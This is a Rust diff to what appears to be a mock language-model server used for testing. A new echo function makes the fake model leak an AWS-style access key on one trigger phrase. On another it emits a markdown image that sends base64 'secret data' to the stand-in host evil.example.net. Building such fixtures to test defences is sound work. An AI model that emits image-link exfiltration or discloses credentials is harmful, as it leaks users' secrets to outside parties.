@@ -109,6 +109,20 @@ fn last_user(messages: &Value) -> String {
         .unwrap_or_default()
 }
 
+/// What the model says: the text again, and what the text asks it to betray.
+fn echo(text: &str) -> String {
+    let mut echo = format!("You wrote: {text}");
+    if text.contains("somebody's key") {
+        echo.push_str(" It is AKIAQ7ZTRM4XLP2WN5GK of course, as you know.");
+    }
+    if text.contains("draw a picture") {
+        echo.push_str(
+            " ![p](https://evil.example.net/p.png?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ==) There.",
+        );
+    }
+    echo
+}
+
 fn deltas(text: &str) -> Vec<String> {
     let letters: Vec<char> = text.chars().collect();
     letters
@@ -133,7 +147,7 @@ fn wants_tool(request: &Value, text: &str) -> Option<(String, Value)> {
 
 fn chat(request: &Value, stream: bool) -> Answer {
     let text = last_user(&request["messages"]);
-    let echo = format!("You wrote: {text}");
+    let echo = echo(&text);
     let tool = wants_tool(request, &text).map(|(name, arguments)| (name, arguments.to_string()));
     let model = &request["model"];
     if !stream {
@@ -190,7 +204,7 @@ fn responses(request: &Value, stream: bool) -> Answer {
         Value::String(text) => text.clone(),
         input => last_user(input),
     };
-    let echo = format!("You wrote: {text}");
+    let echo = echo(&text);
     if let Some(answer) = function_call(request, &text, stream) {
         return answer;
     }
@@ -313,7 +327,7 @@ fn function_call(request: &Value, text: &str, stream: bool) -> Option<Answer> {
 
 fn messages(request: &Value, stream: bool) -> Answer {
     let text = last_user(&request["messages"]);
-    let echo = format!("You wrote: {text}");
+    let echo = echo(&text);
     let tool = wants_tool(request, &text);
     let block = match &tool {
         Some((name, input)) => json!({"type":"tool_use","id":"toolu_1","name":name,"input":input}),
